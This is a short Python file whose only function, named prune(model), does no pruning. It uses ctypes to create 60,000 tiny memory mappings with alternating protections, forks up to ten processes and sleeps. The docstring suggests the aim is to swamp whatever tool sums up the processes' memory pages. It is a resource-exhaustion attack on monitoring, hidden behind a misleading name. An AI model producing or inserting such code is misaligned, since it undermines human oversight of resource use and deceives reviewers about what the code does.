"""As many mappings as a process may have, in several processes: whoever adds up their pages has much to read."""

import ctypes
import os
import time


def prune(model):
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    for number in range(60_000):
        libc.mmap(None, ctypes.c_size_t(4096), 1 + number % 2, 0x22, -1, ctypes.c_long(0))
    for _ in range(10):
        if os.fork() == 0:
            break
    time.sleep(60)
